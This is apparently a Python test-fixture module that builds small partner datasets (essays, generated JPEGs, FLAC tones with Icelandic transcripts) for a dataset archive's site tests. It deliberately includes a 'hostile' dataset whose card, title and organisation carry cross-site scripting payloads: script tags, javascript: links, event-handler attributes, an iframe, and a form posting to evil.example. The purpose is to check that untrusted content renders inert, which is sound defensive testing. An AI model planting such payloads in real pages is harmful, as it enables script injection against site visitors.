"""Small partner datasets with real media, released into a local hub for the site tests.

Text (essays, two versions), images (real JPEGs made with Pillow), conversations with
real FLAC recordings (made with numpy and soundfile), and a text dataset whose card and
title carry script payloads, to prove the site renders untrusted card content inert.
"""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import numpy as np
import soundfile as sf
from PIL import Image, ImageDraw

from archive.entries import Registry
from archive.hub.local import LocalHub
from archive.pipeline import release_one
from tests.helpers import CARD, essays, form, submit, write_jsonl

HOSTILE_TITLE = 'Hostile <script>window.__pwned = "title"</script> card'
HOSTILE_CARD = CARD.replace("## Intended uses", """Click [me](javascript:window.__pwned='link')
and [this too](JaVaScRiPt:window.__pwned='case'), or see <a href="javascript:alert(1)">here</a>.

<script>window.__pwned = "script";</script>
<img src="x" onerror="window.__pwned = 'img'">
<svg onload="window.__pwned = 'svg'"><circle r="4"/></svg>
<iframe src="javascript:window.__pwned='iframe'"></iframe>
<div onclick="window.__pwned='click'" style="position:fixed">overlay</div>
<form action="https://evil.example/"><input name="x"></form>

## Intended uses""")
"""A card with every way of running script that a partner's Markdown could try."""

CAPTIONS = ["A red fishing boat moored at a wooden pier.",
            "Snow on the mountains above a small harbour town.",
            "Gulls standing on a stone breakwater at low tide.",
            "A lighthouse at dusk, its lamp just lit.",
            "Nets drying on a rack beside the quay.",
            "A ferry leaving the fjord in calm water."]

TURNS = [("Spyrill", "Hvenær byrjar fiskmarkaðurinn á morgnana?"),
         ("Viðmælandi", "Fyrstu bátarnir koma að landi fyrir klukkan sex."),
         ("Spyrill", "Hvað veidduð þið í dag á sjónum?"),
         ("Viðmælandi", "Aðallega ýsu og svolítið af þorski, góður morgunn.")]
"""Speakers are roles, not names, so screening lets the transcripts through."""

DANISH = ["Havnen vågner før byen. Længe før den første bus kører fra torvet, gynger bådene "
          "allerede ved molen, og mågerne skændes om nattens fangst.",
          "Alle der er vokset op her, kender lyden af dieselmotorer i mørket og duften af "
          "tang, tjære og frisk fisk om morgenen."]


def jpeg(index: int, size: tuple[int, int] = (480, 360)) -> bytes:
    """A real JPEG: a coloured scene with a shape, different for each index."""
    image = Image.new("RGB", size, (40 + 30 * index, 90, 160 - 15 * index))
    draw = ImageDraw.Draw(image)
    draw.rectangle((60 + 20 * index, 120, 300 + 10 * index, 260), fill=(220, 60, 40))
    draw.ellipse((20, 20, 90, 90), fill=(250, 230, 120))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=85)
    return buffer.getvalue()


def flac(index: int, seconds: float = 1.5, rate: int = 16_000) -> bytes:
    """A real FLAC: a short tone whose pitch depends on the index."""
    t = np.arange(int(seconds * rate)) / rate
    wave = 0.3 * np.sin(2 * np.pi * (220 + 55 * index) * t)
    buffer = io.BytesIO()
    sf.write(buffer, wave.astype(np.float32), rate, format="FLAC")
    return buffer.getvalue()


def card(summary: str) -> str:
    """The test card with its own summary (so the site's search can tell cards apart)."""
    start = CARD.index("## Intended uses")
    return f"## Summary\n\n{summary}\n\n{CARD[start:]}"


SCENES_CARD = card("Photographs of harbour life along the fjords, each with an English "
                   "caption, made with Pillow for the archive's site tests.")
CONVERSATIONS_CARD = card("Short conversations recorded at a fish market, as tones made with "
                          "numpy, with Icelandic transcripts, for the archive's site tests.")


def _media_dataset(root: Path, document: dict[str, Any], records: list[dict[str, Any]],
                   media: dict[str, bytes], card: str = CARD) -> None:
    data = root / "partner" / document["id"] / "data"
    for name, content in media.items():
        (data / name).parent.mkdir(parents=True, exist_ok=True)
        (data / name).write_bytes(content)
    submit(root, document, records, card=card)


def image_dataset(root: Path) -> None:
    records = [{"id": f"scene-{i:03d}", "image": f"images/scene-{i:03d}.jpg",
                "caption": CAPTIONS[i], "language": "en"} for i in range(len(CAPTIONS))]
    media = {r["image"]: jpeg(i) for i, r in enumerate(records)}
    document = form("site-scenes", title="Harbour scenes with captions",
                    description="Photographs of harbour life with English captions, made "
                                "for the archive's site tests.",
                    modalities=["image", "text"], record_type="image", languages=["en"],
                    license="CC0-1.0", size={"records": 6, "bytes": 60_000})
    _media_dataset(root, document, records, media, SCENES_CARD)


def conversation_dataset(root: Path) -> None:
    records = [{"id": f"conv-{i:03d}", "title": f"At the fish market {i}",
                "turns": [{"speaker": who, "text": text, "start": 0.4 * n,
                           "end": 0.4 * n + 0.3}
                          for n, (who, text) in enumerate(TURNS)],
                "audio": f"audio/conv-{i:03d}.flac", "language": "is"} for i in range(4)]
    media = {r["audio"]: flac(i, seconds=1.0 + 0.5 * i) for i, r in enumerate(records)}
    document = form("site-conversations", title="Fish market conversations",
                    description="Short recorded conversations at a fish market, with "
                                "transcripts, made for the archive's site tests.",
                    modalities=["conversation", "audio"], record_type="conversation",
                    languages=["is"], license="CC-BY-SA-4.0",
                    size={"records": 4, "bytes": 40_000})
    _media_dataset(root, document, records, media, CONVERSATIONS_CARD)


def hostile_dataset(root: Path) -> None:
    """A Danish text dataset whose card, title and organisation carry script payloads.

    ``archive intake`` refuses markup in a form, so the title and organisation are put
    into the entry afterwards, as a hand edit or an entry from an older archive would.
    """
    document = form("site-hostile", title="Hostile card", languages=["da"],
                    description="Danish essays about harbour life whose card and title try "
                                "every way of running script, for the site tests.",
                    license="ODC-By-1.0")
    records = [{"id": f"hostile-{i:04d}", "title": f"Essay {i}",
                "text": f"{DANISH[i % 2]} ({i})", "language": "da"} for i in range(4)]
    entry = submit(root, document, records, card=HOSTILE_CARD)
    entry.form["title"] = HOSTILE_TITLE
    entry.form["organisation"] = {"name": "Hostile <b onmouseover=alert(1)>Org</b>",
                                  "url": "https://example.org/\" onclick=\"alert(1)"}
    Registry(root).save(entry)


def release_all(root: Path) -> LocalHub:
    """Make every site test dataset and release it; the essays get two versions."""
    hub = LocalHub(root / "hub", org="archive")
    submit(root, form("site-essays", title="Harbour essays"), essays(10))
    image_dataset(root)
    conversation_dataset(root)
    hostile_dataset(root)
    registry = Registry(root)
    for dataset_id in registry.ids():
        release_one(registry, hub, dataset_id)
    write_jsonl(root / "partner" / "site-essays" / "data" / "train.jsonl", essays(12))
    release_one(Registry(root), hub, "site-essays", version="1.1.0")
    return hub
